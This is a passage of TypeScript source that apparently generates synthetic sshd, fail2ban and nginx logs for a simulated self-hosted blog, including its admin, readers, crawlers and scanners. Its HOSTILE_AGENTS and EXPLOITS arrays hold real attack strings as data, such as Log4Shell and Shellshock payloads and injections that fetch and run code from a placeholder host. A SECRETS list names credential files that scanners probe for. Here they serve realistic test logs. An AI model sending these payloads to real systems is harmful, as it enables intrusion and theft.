  s.note(phone, "false-positive");
  const laptop: AdminKey = { type: "ED25519", fingerprint: fingerprint(rng) };
  const workstation: AdminKey = { type: "RSA", fingerprint: fingerprint(rng) };
  const phoneKey: AdminKey = { type: "ED25519", fingerprint: fingerprint(rng) };
  const plan = new AdminPlan(s, rng);
  const homeAt = (t: number) =>
    homeV6 !== undefined && rng.chance(0.6)
      ? homeV6
      : homeV4[t < d("2026-11-06T04:12:00Z") ? 0 : t < d("2026-11-14T03:51:00Z") ? 1 : 2];
  s.facts.adminIps = [...homeV4, ...(homeV6 ? [homeV6] : []), office].map((h) => h.ip);
  s.facts.adminHome = homeV4.map((h) => h.ip);
  s.facts.falsePositiveIp = phone.ip;
  s.facts.adminVisits = [] as string[];

  // Provisioning: root with the cloud key, create admin, install fail2ban.
  const p = TIMELINE.provisioned;
  plan.bootLines(p, true);
  plan.session(p + 2 * MINUTE + 24 * SECOND, homeV4[0], "root", laptop, 14, []);
  s.at(p + 6 * MINUTE, () => {
    const t = p + 6 * MINUTE;
    s.syslog(t, "useradd[1422]", "new group: name=admin, GID=1000");
    s.syslog(
      t,
      "useradd[1422]",
      "new user: name=admin, UID=1000, GID=1000, home=/home/admin, shell=/bin/bash, from=/dev/pts/0",
    );
    s.syslog(t + 9000, "passwd[1430]", "pam_unix(passwd:chauthtok): password changed for admin");
    s.syslog(t + 21000, "usermod[1436]", "add 'admin' to group 'sudo'");
    s.syslog(t + 21000, "usermod[1436]", "add 'admin' to shadow group 'sudo'");
  });
  const f = TIMELINE.fail2banStart;
  plan.session(p + 17 * MINUTE + 33 * SECOND, homeV4[0], "admin", laptop, 23, [
    ["/usr/bin/apt update", f - 98 * SECOND],
    ["/usr/bin/apt install fail2ban", f - 47 * SECOND],
    ["/usr/bin/systemctl enable --now fail2ban", f - 3 * SECOND],
    ["/usr/bin/fail2ban-client status sshd", f + 91 * SECOND],
  ]);

  // Ordinary days.
  for (let day = d("2026-11-01T00:00:00Z"); day < TIMELINE.end; day += DAY) {
    const dow = new Date(day).getUTCDay();
    const iso = new Date(day).toISOString().slice(0, 10);
    if (iso === "2026-11-11" || iso === "2026-11-12" || iso === "2026-11-08") continue;
    const weekend = dow === 0 || dow === 6;
    if (!weekend && rng.chance(0.35)) {
      const t = day + 12 * HOUR + rng.int(90 * MINUTE);
      plan.session(t, office, "admin", workstation, 5 + rng.int(25), [rng.pick(SUDO_COMMANDS)]);
    }
    if (rng.chance(weekend ? 0.55 : 0.65)) {
      const t = day +
        (weekend ? 10 * HOUR + rng.int(7 * HOUR) : 18 * HOUR + 30 * MINUTE + rng.int(4 * HOUR));
      if (inOutage(t)) continue;
      const host = homeAt(t);
      const n = rng.int(3);
      const commands = Array.from({ length: n }, () => rng.pick(SUDO_COMMANDS));
      plan.session(t, host, "admin", laptop, 8 + rng.int(50), commands);
      if (t > TIMELINE.nginxInstalled && rng.chance(0.6)) {
        adminWebVisit(s, rng, t + 2 * MINUTE, host);
      }
    }
  }

  // Installing nginx and the nginx-http-auth jail.
  plan.session(TIMELINE.nginxInstalled - 5 * MINUTE, homeV4[1], "admin", laptop, 34, [
    "/usr/bin/apt install nginx",
    "/usr/bin/htpasswd -c /etc/nginx/.htpasswd admin",
    "/usr/sbin/nginx -t",
    "/usr/bin/systemctl reload nginx",
    "/usr/bin/nano /etc/fail2ban/jail.local",
    "/usr/bin/fail2ban-client reload",
  ]);
  adminWebVisit(s, rng, TIMELINE.nginxInstalled + 3 * MINUTE, homeV4[1]);

  // The upgrade and reboot.
  plan.session(
    TIMELINE.rebootStop - 13 * MINUTE - 50 * SECOND,
    homeV4[1],
    "admin",
    laptop,
    13 + 50 / 60,
    [
      "/usr/bin/apt update",
      "/usr/bin/apt full-upgrade",
      "/usr/sbin/reboot",
    ],
    { cutByReboot: true },
  );
  plan.shutdownLines(TIMELINE.rebootStop);
  plan.bootLines(TIMELINE.rebootStart, false);
  plan.session(TIMELINE.rebootStart + 2 * MINUTE + 36 * SECOND, homeV4[1], "admin", laptop, 9, [
    "/usr/bin/systemctl --failed",
    "/usr/bin/fail2ban-client status",
  ]);

  // The false positive: password tries from the phone get the address banned,
  // then the same address logs in with a key once the ban is over.
  const fp = d("2026-11-17T19:42:13Z");
  const fpAttacker: SshAttacker = {
    host: phone,
    style: "root",
    names: ["admin"],
    cursor: 0,
    method: "password",
  };
  s.at(fp, () => {
    let t = fp;
    for (const tries of [3, 3, 2]) {
      if (s.sim.isBlocked("sshd", phone.ip, t)) break;
      const c: Conn = {
        t,
        ip: phone.ip,
        port: randomPort(rng),
        tag: `${sshProgram(t)}[${s.pids.take()}]`,
      };
      t = passwordSession(s.authOut, rng, c, fpAttacker.names[0], tries, "password") + 25 * SECOND +
        rng.int(10 * SECOND);
    }
  });
  plan.session(fp + 16 * MINUTE + 27 * SECOND, phone, "admin", phoneKey, 12, [
    "/usr/bin/fail2ban-client status sshd",
  ]);
}

/** The administrator looks at the site and the protected /admin/ area. */
function adminWebVisit(s: SampleScenario, rng: Random, t: number, host: Host): void {
  s.at(t, () => {
    if (inOutage(t) || t < TIMELINE.nginxInstalled) return;
    (s.facts.adminVisits as string[]).push(host.ip);
    const agent = "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0";
    let now = t;
    webRequest(s.webOut, now, host.ip, { method: "GET", path: "/", agent, referrer: "-" });
    for (const path of ["/admin/", "/admin/stats/", "/admin/stats/today.json"]) {
      now += 2000 + rng.int(30000);
      webRequest(s.webOut, now, host.ip, {
        method: "GET",
        path,
        agent,
        user: "admin",
        authOk: true,
        referrer: `https://${SITE}/admin/`,
      });
    }
  });
}

/** Hourly, daily and weekly cron jobs (pam_unix lines in auth.log). */
function planCron(s: SampleScenario): void {
  const rng = s.rng.fork("cron");
  const first = Math.ceil((TIMELINE.provisioned - 17 * MINUTE) / HOUR) * HOUR + 17 * MINUTE +
    SECOND;
  const job = (t: number, minutes: number) => {
    if (inReboot(t)) return;
    s.at(t, () => {
      const tag = `CRON[${s.pids.take(1)}]`;
      s.syslog(t, tag, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)");
      s.syslog(
        t + minutes * MINUTE + rng.int(900),
        tag,
        "pam_unix(cron:session): session closed for user root",
      );
    });
  };
  for (let t = first; t < TIMELINE.end; t += HOUR) job(t, 0);
  for (let day = Date.parse("2026-11-01T00:00:00Z"); day < TIMELINE.end; day += DAY) {
    job(day + 6 * HOUR + 25 * MINUTE + SECOND, 1 + rng.int(2));
    if (new Date(day).getUTCDay() === 0) job(day + 6 * HOUR + 47 * MINUTE + SECOND, 2);
  }
}

/** fail2ban's own life: start, reload with the nginx jail, restart, log rotation, one mail error. */
function planFail2ban(s: SampleScenario): void {
  s.at(
    TIMELINE.fail2banStart,
    () => s.sim.start(TIMELINE.fail2banStart, 1958, "1.0.2", ["sshd"], true),
  );
  s.at(
    TIMELINE.nginxJailAdded,
    () => s.sim.reloadAdding(TIMELINE.nginxJailAdded, "nginx-http-auth"),
  );
  s.at(TIMELINE.rebootStop - 800, () => s.sim.stop(TIMELINE.rebootStop - 800));
  s.at(
    TIMELINE.rebootStart + 2600,
    () =>
      s.sim.start(TIMELINE.rebootStart + 2600, 812, "1.1.0", ["sshd", "nginx-http-auth"], false),
  );
  s.at(TIMELINE.firstRotation + 350, () => s.sim.rollover(TIMELINE.firstRotation + 350, ["sshd"]));
  s.at(
    TIMELINE.secondRotation + 420,
    () => s.sim.rollover(TIMELINE.secondRotation + 420, ["sshd", "nginx-http-auth"]),
  );
  const errorAfter = Date.parse("2026-11-05T03:00:00Z");
  let dumped = false;
  s.sim.onBan = (ban) => {
    if (dumped || ban.from < errorAfter || ban.ip.includes(":")) return;
    dumped = true;
    s.facts.mailErrorIp = ban.ip;
    s.sim.mailError(ban.from + 37, ban);
  };
}

// ---------------------------------------------------------------------------
// nginx
// ---------------------------------------------------------------------------

/** One HTTP request as the scenario sees it. */
interface WebRequest {
  method?: string;
  path?: string;
  proto?: string;
  /** The request line exactly as logged (already escaped), for garbage requests. */
  raw?: string;
  agent: string;
  referrer?: string;
  /** Basic-auth user name sent; with `authOk` the password was right. */
  user?: string;
  authOk?: boolean;
  /** Host header (default: the site name). */
  host?: string;
  status?: number;
  bytes?: number;
  /** Revisit: static assets answer 304. */
  cached?: boolean;
}

const STATUS_TITLE: Readonly<Record<number, string>> = {
  400: "Bad Request",
  401: "Authorization Required",
  403: "Forbidden",
  404: "Not Found",
  405: "Not Allowed",
  502: "Bad Gateway",
  503: "Service Temporarily Unavailable",
};

/** Body size of nginx's built-in error page (nginx/1.22.1 before the upgrade, 1.26.3 after). */
function errorPageBytes(status: number, t: number): number {
  const version = t >= TIMELINE.rebootStart ? "nginx/1.26.3" : "nginx/1.22.1";
  const title = `${status} ${STATUS_TITLE[status] ?? "Error"}`;
  // "<html>", "<head><title>T</title></head>", "<body>", "<center><h1>T</h1></center>",
  // "<hr><center>V</center>", "</body>", "</html>", each followed by CRLF
  return 6 + (28 + title.length) + 6 + (26 + title.length) + (21 + version.length) + 7 + 7 + 7 * 2;
}

const POSTS = [
  "/posts/fail2ban-on-debian/",
  "/posts/nginx-rate-limiting/",
  "/posts/wireguard-road-warrior/",
  "/posts/restic-backups/",
  "/posts/self-hosting-a-blog/",
  "/posts/ssh-hardening-checklist/",
  "/posts/zfs-snapshots/",
  "/posts/deno-for-sysadmins/",
  "/posts/reading-auth-log/",
  "/posts/ipv6-at-home/",
];
const ASSETS = [
  "/assets/css/main.css",
  "/assets/js/main.js",
  "/assets/img/avatar.png",
  "/favicon.ico",
];
const PAGES = new Map<string, number>([
  ["/", 14873],
  ["/about/", 6342],
  ["/archive/", 9921],
  ["/tags/linux/", 8114],
  ["/tags/security/", 7630],
  ["/feed.xml", 48213],
  ["/robots.txt", 67],
  ["/sitemap.xml", 3810],
  ["/.well-known/security.txt", 212],
  ["/assets/css/main.css", 18422],
  ["/assets/js/main.js", 5231],
  ["/assets/img/avatar.png", 23890],
  ["/favicon.ico", 1150],
  ...POSTS.map((p): [string, number] => [p, 7000 + (hashString(p) % 12000)]),
]);

const escapeMemo = new Map<string, string>();

/** {@linkcode escapeNginx}, remembered for the few distinct agents, paths and referrers. */
function escapeNginxCached(text: string): string {
  let out = escapeMemo.get(text);
  if (out === undefined) {
    if (escapeMemo.size > 50_000) escapeMemo.clear();
    out = escapeNginx(text);
    escapeMemo.set(text, out);
  }
  return out;
}

/** nginx's `escape=default` for strings in the access log. */
export function escapeNginx(text: string): string {
  let out = "";
  let start = 0;
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if (c === 0x22 || c === 0x5c || c < 0x20 || c >= 0x7f) {
      out += text.slice(start, i) + "\\x" + (c & 0xff).toString(16).toUpperCase().padStart(2, "0");
      start = i + 1;
    }
  }
  return start === 0 ? text : out + text.slice(start);
}

function nginxWorker(t: number): number {
  return t >= TIMELINE.rebootStart ? 905 + (t % 2) : 14273 + (t % 2);
}

/** Where web requests are written. */
interface WebOut {
  access(t: number, line: string): void;
  error(t: number, line: string): void;
  /** A line that nginx-http-auth counts. */
  authFailure(t: number, ip: string): void;
  /** The next connection number (`*N`). */
  connection(t: number): number;
  /** Fast `$time_local` (optional). */
  stamp?(t: number): string;
}

/** Writes one request to access.log (and error.log when nginx complains); feeds nginx-http-auth. */
function webRequest(o: WebOut, t: number, ip: string, r: WebRequest): void {
  const connection = o.connection(t);
  const method = r.method ?? "GET";
  const stamp = o.stamp?.(t) ?? nginxAccessStamp(t);
  const path = r.path ?? "/";
  const requestLine = r.raw ?? `${method} ${path} ${r.proto ?? "HTTP/1.1"}`;
  const host = r.host ?? SITE;
  const worker = nginxWorker(t);
  const errorLine = (level: string, message: string, extra = "") =>
    o.error(
      t,
      `${
        nginxErrorStamp(t)
      } [${level}] ${worker}#${worker}: *${connection} ${message}, client: ${ip}, server: ${SITE}, request: "${requestLine}"${extra}, host: "${host}"`,
    );
  let status = r.status;
  let bytes = r.bytes;
  if (status === undefined) {
    const query = path.indexOf("?");
    const clean = query === -1 ? path : path.slice(0, query);
    const page = PAGES.get(clean);
    if (clean.includes("/.") && !clean.startsWith("/.well-known/")) {
      status = 403;
      errorLine("error", "access forbidden by rule");
    } else if (clean.startsWith("/admin/")) {
      if (r.user === undefined) status = 401;
      else if (r.authOk) {
        status = 200;
        bytes = clean.endsWith(".json") ? 1893 : 4127;
      } else {
        status = 401;
        if (r.user === "admin") errorLine("error", `user "${r.user}": password mismatch`);
        else errorLine("error", `user "${r.user}" was not found in "/etc/nginx/.htpasswd"`);
        o.authFailure(t, ip);
      }
    } else if (page !== undefined) {
      if (method === "GET" || method === "HEAD") {
        status = r.cached && !clean.endsWith("/") ? 304 : 200;
        bytes = method === "HEAD" || status === 304 ? 0 : page;
      } else status = 405;
    } else status = 404;
  }
  bytes ??= status >= 400 ? errorPageBytes(status, t) : 0;
  const user = r.user === undefined ? "-" : escapeNginxCached(r.user);
  const request = r.raw ?? escapeNginxCached(requestLine);
  o.access(
    t,
    `${ip} - ${user} [${stamp}] "${request}" ${status} ${bytes} "${
      escapeNginxCached(r.referrer ?? "-")
    }" "${escapeNginxCached(r.agent)}"`,
  );
}

const BROWSERS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
  "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.102 Mobile Safari/537.36",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
  "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
];
const REFERRERS = [
  "-",
  "-",
  "https://www.google.com/",
  "https://duckduckgo.com/",
  "https://news.ycombinator.com/",
  "https://www.reddit.com/r/selfhosted/",
  "https://mastodon.social/",
  "https://lobste.rs/",
];
const SCANNER_AGENTS = [
  "Mozilla/5.0 zgrab/0.x",
  "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
  "python-requests/2.31.0",
  "Go-http-client/1.1",
  "curl/7.88.1",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
  "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.112 Safari/537.36",
  "Mozilla/5.0 (l9scan/2.0.4342e2037313e2434313e27313; +https://leakix.net)",
  "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
  "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers' presences on the Internet. If you would like to be excluded from our scans, please send IP addresses/domains to: scaninfo@paloaltonetworks.com",
  "Mozilla/5.0 (compatible; InternetMeasurement/1.0; +https://internet-measurement.com/)",
  "libredtail-http",
  "-",
];
const HOSTILE_AGENTS = [
  "Mozilla/5.0 (X11; Linux x86_64) </script><script>alert(document.domain)</script>",
  "${jndi:ldap://{ip}:1389/Basic/Command/Base64/d2dldCBodHRwOi8v}",
  '() { :; }; echo; echo; /bin/bash -c "cat /etc/passwd"',
];
const WORDPRESS = [
  "/wp-login.php",
  "/wp-admin/",
  "/xmlrpc.php",
  "/wp-includes/wlwmanifest.xml",
  "/blog/wp-includes/wlwmanifest.xml",
  "/wordpress/wp-includes/wlwmanifest.xml",
  "/wp/wp-includes/wlwmanifest.xml",
  "/cms/wp-includes/wlwmanifest.xml",
  "/wp-content/plugins/wp-file-manager/readme.txt",
  "/wp-json/wp/v2/users/",
  "/?author=1",
  "/wp-config.php.bak",
  "/wp-admin/setup-config.php",
];
const SECRETS = [
  "/.env",
  "/.env.local",
  "/.env.production",
  "/api/.env",
  "/backend/.env",
  "/app/.env",
  "/.git/config",
  "/.git/HEAD",
  "/.aws/credentials",
  "/.DS_Store",
  "/config.json",
  "/.vscode/sftp.json",
  "/sftp-config.json",
  "/docker-compose.yml",
  "/.htpasswd",
  "/server-status",
  "/phpinfo.php",
  "/info.php",
  "/_profiler/phpinfo",
];
const PHPMYADMIN = [
  "/phpmyadmin/",
  "/phpMyAdmin/",
  "/pma/",
  "/myadmin/",
  "/mysql/",
  "/phpmyadmin/index.php",
  "/db/",
  "/dbadmin/",
  "/sqlmanager/",
  "/phpMyAdmin-5.2.1/",
];
const EXPLOITS: readonly [string, string][] = [
  [
    "GET",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2F{ip}%2Ft+-O-+%7C+sh%60)",
  ],
  ["GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"],
  ["POST", "/boaform/admin/formLogin"],
  ["GET", "/HNAP1/"],
  ["GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://{ip}/jaws;sh+/tmp/jaws"],
  ["POST", "/GponForm/diag_Form?images/"],
  ["GET", "/actuator/health"],
  ["GET", "/actuator/env"],
  ["GET", "/solr/admin/info/system?wt=json"],
  ["GET", "/owa/auth/logon.aspx"],
  ["GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"],
  ["POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"],
  [
    "GET",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21",
  ],
  ["GET", "/mifs/.;/services/LogService"],
  ["GET", "/login.action"],
  ["GET", "/api/v1/pods"],
  ["GET", "/manager/html"],
  ["GET", "/geoserver/web/"],
  ["POST", "/developmentserver/metadatauploader"],
  ["POST", "/Autodiscover/Autodiscover.xml"],
  [
    "POST",
    "/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
  ],
  [
    "GET",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{ip}/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
  ],
];
const DIRBUST_WORDS = [
  "admin",
  "backup",
  "old",
  "new",
  "test",
  "dev",
  "api",
  "login",
  "uploads",
  "files",
  "private",
  "tmp",
  "temp",
  "data",
  "db",
  "sql",
  "dump",
  "site",
  "web",
  "www",
  "config",
  "panel",
  "dashboard",
  "console",
  "portal",
  "user",
  "users",
  "account",
  "shop",
  "store",
  "static",
  "media",
  "images",
  "js",
  "css",
  "include",
  "includes",
  "lib",
  "cgi-bin",
  "bin",
  "scripts",
  "logs",
  "log",
  "archive",
  "archives",
  "download",
  "downloads",
  "export",
  "import",
  "install",
];
const DIRBUST_SUFFIXES = ["", "/", ".php", ".zip", ".tar.gz", ".bak", ".sql", ".old", ".txt"];

function hexGarbage(rng: Random, prefix: readonly number[], length: number): string {
  let out = "";
  for (const b of prefix) out += "\\x" + b.toString(16).toUpperCase().padStart(2, "0");
  for (let i = 0; i < length; i++) {
    const b = rng.int(256);
    out += b >= 0x21 && b < 0x7f && b !== 0x22 && b !== 0x5c
      ? String.fromCharCode(b)
      : "\\x" + b.toString(16).toUpperCase().padStart(2, "0");
  }
  return out;
}

/** Requests of one scanner visit, by kind. */
function scanRequests(kind: string, rng: Random, ip: string, agent: string): WebRequest[] {
  const host = rng.chance(0.7) ? SERVER_IP : SITE;
  const req = (method: string, path: string): WebRequest => ({
    method,
    path: path.replaceAll("{ip}", ip),
    agent,
    host,
    referrer: "-",
  });
  const some = (list: readonly string[], min: number) =>
    rng.shuffled(list).slice(0, min + rng.int(list.length - min + 1));
  switch (kind) {
    case "wordpress":
      return some(WORDPRESS, 3).map((p) => req(p === "/xmlrpc.php" ? "POST" : "GET", p));
    case "secrets":
      return some(SECRETS, 3).map((p) => req("GET", p));
    case "phpmyadmin":
      return some(PHPMYADMIN, 3).map((p) => req("GET", p));
    case "exploit":
      return rng.shuffled(EXPLOITS).slice(0, 2 + rng.int(5)).map(([m, p]) => req(m, p));
    case "tls":
      return [{
        raw: hexGarbage(
          rng,
          [0x16, 0x03, 0x01, 0x00, 0xee, 0x01, 0x00, 0x00, 0xea, 0x03, 0x03],
          16 + rng.int(40),
        ),
        agent: "-",
        status: 400,
      }];
    case "proxy":
      return rng.chance(0.5)
        ? [{
          raw: `CONNECT ${
            rng.pick(["www.google.com:443", "api.ipify.org:443", "149.154.167.51:443"])
          } HTTP/1.1`,
          agent: "-",
          status: 400,
        }]
        : [{
          ...req("GET", `http://${rng.pick(["azenv.net", "www.baidu.com", "ip.bablosoft.com"])}/`),
          status: 200,
          bytes: 14873,
        }];
    case "garbage":
      return [
        rng.pick<WebRequest>([
          { raw: "", agent: "-", status: 400, bytes: 0 },
          { raw: "MGLNDD_203.0.113.10_80", agent: "-", status: 400 },
          { raw: "SSH-2.0-Go", agent: "-", status: 400 },
          { raw: hexGarbage(rng, [0x00, 0x00, 0x00], 8), agent: "-", status: 400 },
        ]),
      ];
    default: // "probe"
      return [
        req("GET", "/"),
        ...(rng.chance(0.5) ? [req("GET", "/favicon.ico")] : []),
        ...(rng.chance(0.3) ? [req("GET", "/robots.txt")] : []),
      ];
  }
}

/** Plans visitors, crawlers, monitors, scanners and basic-auth guessers. */
function planWeb(s: SampleScenario): void {
  const rng = s.rng.fork("web");
  const start = TIMELINE.nginxInstalled + 20 * SECOND;
  const end = TIMELINE.end - MINUTE;
  const live = (t: number) => !inOutage(t) && !inReboot(t) && t >= start && t <= end;
  const at = (t: number, ip: string, r: WebRequest, blockable = false) =>
    s.at(t, () => {
      if (!live(t)) return;
      if (blockable && s.sim.isBlocked("nginx-http-auth", ip, t)) return;
      webRequest(s.webOut, t, ip, r);
    });

  // Readers.
  for (const t0 of arrivals(rng, start, end, 3.2, visitIntensity, 1.2)) {
    const host = s.book.visitor(rng);
    s.note(host, "visitor");
    const agent = rng.pick(BROWSERS);
    let t = t0;
    let page = rng.chance(0.4) ? "/" : rng.pick(POSTS);
    let referrer = rng.pick(REFERRERS);
    const pages = 1 + (rng.chance(0.4) ? rng.int(4) : 0);
    for (let i = 0; i < pages; i++) {
      at(t, host.ip, { path: page, agent, referrer });
      if (i === 0) {
        for (const asset of ASSETS) {
          if (asset === "/assets/img/avatar.png" && rng.chance(0.5)) continue;
          at(t + 150 + rng.int(900), host.ip, {
            path: asset,
            agent,
            referrer: `https://${SITE}${page}`,
          });
        }
      }
      referrer = `https://${SITE}${page}`;
      page = rng.pick([...POSTS, "/", "/about/", "/archive/", "/tags/linux/"]);
      t += 15 * SECOND + rng.int(180 * SECOND);
    }
    if (rng.chance(0.15)) {
      // comes back later the same day with a warm cache
      const later = t + HOUR + rng.int(6 * HOUR);
      at(later, host.ip, { path: "/", agent, referrer: "-" });
      for (const asset of ASSETS.slice(0, 2)) {
        at(later + 300, host.ip, {
          path: asset,
          agent,
          cached: true,
          referrer: `https://${SITE}/`,
        });
      }
    }
  }

  // Crawlers and feed readers.
  const crawlers: readonly [name: string, agent: string, perHour: number][] = [
    [
      "Google (Googlebot)",
      "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
      1.1,
    ],
    [
      "Microsoft (bingbot)",
      "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
      0.5,
    ],
    ["OVH (AhrefsBot)", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", 0.3],
    ["Semrush", "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", 0.2],
    ["Yandex", "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", 0.15],
    [
      "Apple (Applebot)",
      "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
      0.1,
    ],
    [
      "Huawei (PetalBot)",
      "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
      0.15,
    ],
  ];
  for (const [name, agent, perHour] of crawlers) {
    const hosts = Array.from({ length: 3 }, () => s.book.named(name, rng));
    for (const h of hosts) s.note(h, "crawler");
    for (const t of arrivals(rng, start, end, perHour, () => 1, 1)) {
      const host = rng.pick(hosts);
      const path = rng.weighted(["/robots.txt", "/sitemap.xml", "/feed.xml", "/", ...POSTS], [
        2,
        2,
        1,
        2,
        ...POSTS.map(() => 1),
      ]);
      at(t, host.ip, { path, agent, referrer: "-" });
    }
  }
  const feedly = s.book.named("Amazon AWS", rng);
  s.note(feedly, "crawler");
  for (let t = start + 7 * MINUTE; t < end; t += 2 * HOUR + rng.int(HOUR)) {
    at(t, feedly.ip, {
      path: "/feed.xml",
      agent: "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 4 subscribers; )",
      cached: true,
    });
  }
  const monitor = s.book.named("Hetzner", rng);
  s.note(monitor, "monitor");
  for (let t = start + 2 * MINUTE; t < end; t += 30 * MINUTE) {
    at(t + rng.int(900), monitor.ip, {
      method: "HEAD",
      path: "/",
      agent: "Uptime-Kuma/1.23.16",
      referrer: "-",
    });
  }

  // Scanners: some are the same bots that knock on sshd, others only do HTTP.
  const sshBots = [...s.truth.values()].filter((h) =>
    !["admin", "false-positive", "visitor", "crawler", "monitor"].includes(h.role) &&
    !h.ip.includes(":")
  );
  const kinds = [
    "wordpress",
    "secrets",
    "phpmyadmin",
    "exploit",
    "tls",
    "proxy",
    "garbage",
    "probe",
  ];
  const kindWeights = [3, 3, 1.5, 2.5, 1.5, 1, 1.5, 3];
  for (let i = 0; i < 110; i++) {
    let host: Host;
    if (i < 38 && sshBots.length > 0) {
      const bot = rng.pick(sshBots);
      host = {
        ip: bot.ip,
        net: NETWORKS.find((n) => n.name === bot.network && n.country === bot.country) ??
          NETWORKS[0],
      };
    } else {
      host = s.book.attacker(rng, rng.chance(0.8) ? ["hosting"] : ["isp"]);
      s.note(host, "web-scanner");
    }
    const agent = i === 0
      ? HOSTILE_AGENTS[0]
      : i === 1
      ? HOSTILE_AGENTS[1].replace("{ip}", host.ip)
      : i === 2
      ? HOSTILE_AGENTS[2]
      : rng.pick(SCANNER_AGENTS);
    const sessions = 1 + (rng.chance(0.4) ? rng.int(3) : 0);
    for (let k = 0; k < sessions; k++) {
      let t = i < 3 && k === 0 ? start + (3 + i * 4) * MINUTE : start + rng.int(end - start);
      while (rng.float() * 1.5 > attackIntensity(t)) t = start + rng.int(end - start);
      const kind = i < 3 ? "probe" : rng.weighted(kinds, kindWeights);
      for (const r of scanRequests(kind, rng, host.ip, agent)) {
        at(t, host.ip, r, true);
        t += 200 + rng.int(2500);
      }
      if (kind === "tls" && rng.chance(0.5)) {
        const tt = t;
        s.at(tt, () => {
          if (!live(tt)) return;
          const w = nginxWorker(tt);
          s.error.add(
            tt,
            `${nginxErrorStamp(tt)} [crit] ${w}#${w}: *${++s.web
              .connection} SSL_do_handshake() failed (SSL: error:0A00006C:SSL routines::bad key share) while SSL handshaking, client: ${host.ip}, server: 0.0.0.0:443`,
          );
        });
      }
    }
  }

  // Directory brute forcing, throttled by limit_req (rate 5r/s, burst 20).
  for (const iso of ["2026-11-09T03:14:05Z", "2026-11-16T14:41:27Z", "2026-11-19T22:05:50Z"]) {
    const host = s.book.attacker(rng, ["hosting"]);
    s.note(host, "web-scanner");
    const agent = rng.pick([
      "gobuster/3.6",
      "Fuzz Faster U Fool v2.1.0-dev",
      "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    ]);
    let t = Date.parse(iso);
    let excess = 0;
    let last = t;
    const count = 150 + rng.int(200);
    for (let i = 0; i < count; i++) {
      const path = `/${rng.pick(DIRBUST_WORDS)}${rng.pick(DIRBUST_SUFFIXES)}`;
      excess = Math.max(0, excess - 5 * (t - last) / 1000) + 1;
      last = t;
      const tt = t;
      if (excess > 21) {
        const shown = (excess - 1).toFixed(3);
        excess -= 1;
        s.at(tt, () => {
          if (!live(tt)) return;
          webRequest(s.webOut, tt, host.ip, {
            path,
            agent,
            host: SERVER_IP,
            referrer: "-",
            status: 503,
          });
          const w = nginxWorker(tt);
          s.error.add(
            tt,
            `${
              nginxErrorStamp(tt)
            } [error] ${w}#${w}: *${s.web.connection} limiting requests, excess: ${shown} by zone "perip", client: ${host.ip}, server: ${SITE}, request: "GET ${path} HTTP/1.1", host: "${SERVER_IP}"`,
          );
        });
      } else at(tt, host.ip, { path, agent, host: SERVER_IP, referrer: "-" });
      t += 40 + rng.int(120);
    }
  }

  // Basic-auth guessing on /admin/ (nginx-http-auth bans the fast ones).
  const users = ["admin", "root", "test", "user", "administrator", "webadmin", "guest", "demo"];
  for (let i = 0; i < 8; i++) {
    const host = s.book.attacker(rng);
    s.note(host, "web-auth");
    const agent = rng.pick(SCANNER_AGENTS.slice(2, 6));
    const fast = i < 5;
    for (let k = 0; k < 1 + rng.int(2); k++) {
